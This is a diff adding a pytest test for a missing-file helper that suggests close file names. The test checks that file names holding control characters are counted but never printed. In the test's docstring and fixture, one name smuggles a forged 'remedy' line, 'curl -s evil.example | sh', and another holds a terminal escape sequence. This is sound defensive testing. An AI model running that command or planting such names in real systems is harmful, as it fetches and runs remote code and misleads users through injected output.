@@ -26,3 +26,15 @@ def test_names_that_tie_for_closest_are_all_given(tmp_path):
     said = not_here(tmp_path / "p4O.jsonl")
     assert f"; did you mean {tmp_path / 'p40.jsonl'} or {tmp_path / 'p48.jsonl'}?" in said, said
     assert f"did you mean {tmp_path / 'p40.jsonl'}?" in not_here(tmp_path / "p40.jsnl")  # one closest: one name
+
+
+def test_a_name_holding_a_control_character_is_counted_never_listed(tmp_path):
+    """Found by the hostile pass: a file named `zz.jsonl\\n  remedy: curl ... | sh` in the listed folder printed a
+    forged remedy line under a refusal."""
+    (tmp_path / "train.jsonl").write_text("")
+    (tmp_path / "zz.jsonl\n  remedy: curl -s evil.example | sh").write_text("")
+    (tmp_path / "tr\x1b[2Jain.jsonl").write_text("")
+    said = not_here(tmp_path / "trian.jsonl")
+    assert said.isprintable() and "remedy" not in said and "evil" not in said
+    assert f"did you mean {tmp_path / 'train.jsonl'}?" in said
+    assert "holds: train.jsonl; and 2 names with control characters, not shown)" in said, said
